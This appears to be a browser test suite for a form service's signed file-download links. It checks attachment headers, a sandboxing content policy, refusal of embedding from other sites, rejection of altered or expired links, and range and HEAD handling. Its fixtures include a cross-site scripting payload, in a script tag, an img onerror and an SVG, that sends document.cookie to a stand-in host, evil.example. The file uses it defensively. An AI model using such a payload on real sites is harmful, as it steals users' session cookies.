// Links to files: a file is downloaded, never shown, and by nobody who was not given the link.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { startBrowser } from '../support/chromium.mjs';
import { watch } from '../support/harm.mjs';
import { send } from '../support/hosted_page.mjs';
import { startServer } from '../support/server.mjs';
import { serveFolder } from '../support/static_site.mjs';

const script = 'document.title = "it ran"; fetch("https://evil.example/" + document.cookie)';
const html = `<!doctype html><title>calm</title><h1>Hello</h1><script>${script}</script><img src=x onerror='${script}'>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${script}</script></svg>`;
const text = (name, mimeType, content) => ({ name, mimeType, buffer: Buffer.from(content) });

let server;
let site;
let browser;
before(async () => {
  server = await startServer({ forms: [], movableClock: true });
  const fields = [{ name: 'title', type: 'text', label: 'Title' }, { name: 'files', type: 'file', label: 'Files', max_files: 5 }];
  await server.importForm({ name: 'Any file', slug: 'any', language: 'en', fields });
  browser = await startBrowser();
});
after(async () => {
  await browser?.close();
  await site?.stop();
  await server?.stop();
});

/** Sends the files by the hosted page; resolves with the links that the command line shows. */
async function upload(title, files) {
  const page = await browser.open();
  await page.goto(`${server.url}/f/any`);
  await page.getByLabel('Title').fill(title);
  await page.getByLabel('Files').setInputFiles(files);
  await send(page);
  const [{ id }] = await server.rowsWith('any', 'title', title);
  return JSON.parse(await server.formhold('submission', 'show', id, '--json')).links;
}

/** Opens the link as a person does who clicks on it; resolves with what was downloaded, or what the page says. */
async function follow(page, link) {
  const download = page.waitForEvent('download', { timeout: 3000 }).catch(() => null);
  const reply = await page.goto(link).catch((error) => {
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error;
    return null;
  });
  if (reply) return { status: reply.status(), text: (await reply.text()).trim() };
  const file = await download;
  return { name: file.suggestedFilename(), bytes: await readFile(await file.path()) };
}

/** A picture, made by the browser. */
async function picture() {
  const page = await browser.reuse();
  const base64 = await page.evaluate(() => {
    const canvas = Object.assign(document.createElement('canvas'), { width: 1200, height: 800 });
    const context = canvas.getContext('2d');
    context.fillStyle = 'teal';
    context.fillRect(0, 0, 1200, 800);
    return canvas.toDataURL().split(',')[1];
  });
  return Buffer.from(base64, 'base64');
}

const changed = (link, name, change) => {
  const url = new URL(link);
  url.searchParams.set(name, change(url.searchParams.get(name)));
  return url.href;
};

test('a picture, a page, a drawing and a script are all downloaded as they were, and none is shown', async () => {
  const bytes = 'application/octet-stream';
  // Each with the type that it is sent as.
  const kinds = [
    [{ name: 'Häuser "am" See.png', mimeType: 'image/png', buffer: await picture() }, 'image/png'],
    [text('page.html', 'text/html', html), bytes],
    [text('drawing.svg', 'image/svg+xml', svg), bytes],
    [text('run.js', 'text/javascript', script), 'text/plain; charset=utf-8'],
    // What it says it is, and what it is, may differ.
    [text('innocent.png', 'image/png', html), bytes],
  ];
  const links = await upload('all kinds', kinds.map(([file]) => file));
  assert.equal(links.length, kinds.length);

  const page = await browser.open();
  const harm = await watch(page);
  await page.goto(`${server.url}/f/any`);
  for (const [index, [{ name, buffer }, type]] of kinds.entries()) {
    const got = await follow(page, links[index]);
    // Chromium puts something else for characters that no file name may have.
    assert.equal(got.name, name.replaceAll('"', '_'));
    assert.deepEqual(got.bytes, buffer);
    assert.equal(page.url(), `${server.url}/f/any`);

    const reply = await page.request.get(links[index]);
    const headers = reply.headers();
    assert.match(headers['content-disposition'], /^attachment; /);
    assert.equal(headers['content-type'], type, name);
    assert.equal(headers['content-security-policy'], "default-src 'none'; sandbox");
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.equal(headers['cache-control'], 'private, no-store');
  }
  assert.deepEqual(harm, []);
});

test('other sites cannot put a file into their pages', async () => {
  const [link, scriptLink] = await upload('embedded', [
    { name: 'picture.png', mimeType: 'image/png', buffer: await picture() }, text('run.js', 'text/javascript', script),
  ]);
  site = await serveFolder('/', {
    '/page.html': `<!doctype html><title>calm</title><img src="${link}"><script src="${scriptLink}"></script>`,
  });
  const page = await browser.open();
  await page.goto(`${site.url}/page.html`);
  assert.equal(await page.locator('img').evaluate((image) => image.naturalWidth), 0);
  assert.equal(await page.title(), 'calm');
  const read = await page.evaluate((address) => fetch(address).then(() => 'read', () => 'refused'), link);
  assert.equal(read, 'refused');
});

test('a link that was changed anywhere leads nowhere', async () => {
  const [link, other] = await upload('changed', [text('one.txt', 'text/plain', 'one'), text('two.txt', 'text/plain', 'two')]);
  const page = await browser.open();
  const [id, otherId] = [link, other].map((address) => new URL(address).pathname.split('/').at(-1));
  const nextDigit = (hex) => hex.replace(/.$/, (last) => (last === '0' ? '1' : '0'));
  const wrong = {
    'the id of another file': link.replace(id, otherId),
    'an unknown id': link.replace(id, nextDigit(id)),
    'no id': link.replace(id, 'x'),
    'another purpose': changed(link, 'purpose', () => 'thumbnail'),
    'an unknown purpose': changed(link, 'purpose', () => 'view'),
    'a later end': changed(link, 'expires', (seconds) => Number(seconds) + 1),
    'an earlier end': changed(link, 'expires', () => 1),
    'another signature': changed(link, 'signature', nextDigit),
    'a signature cut short': changed(link, 'signature', (signature) => signature.slice(0, -2)),
    'no signature': link.replace(/&signature=.*/, ''),
    'nothing beside the id': link.replace(/\?.*/, ''),
  };
  for (const [what, address] of Object.entries(wrong)) {
    assert.deepEqual(await follow(page, address), { status: 404, text: 'there is no such file' }, what);
  }
  assert.equal((await follow(page, link)).bytes.toString(), 'one');
});

test('a link works for an hour and not longer', async () => {
  const [link] = await upload('for an hour', [text('one.txt', 'text/plain', 'one')]);
  const page = await browser.open();
  await server.moveClock(3590);
  assert.equal((await follow(page, link)).name, 'one.txt');
  await server.moveClock(3700);
  assert.deepEqual(await follow(page, link), { status: 410, text: 'this link has expired; ask for a new one' });
  // Of a link that is not ours, nothing is said, not even that.
  assert.equal((await follow(page, changed(link, 'expires', (seconds) => seconds - 1))).status, 404);
  await server.moveClock(0);
});

test('who asks for a part gets the whole, and who asks for the head gets no file', async () => {
  const [link] = await upload('parts', [text('one.txt', 'text/plain', 'one, two, three')]);
  const page = await browser.open();
  const part = await page.request.get(link, { headers: { range: 'bytes=0-2' } });
  assert.deepEqual([part.status(), await part.text()], [200, 'one, two, three']);
  const head = await page.request.head(link);
  assert.deepEqual([head.status(), head.headers()['content-length'], await head.text()], [200, '15', '']);
  const post = await page.request.post(link);
  assert.equal(post.status(), 405);
});
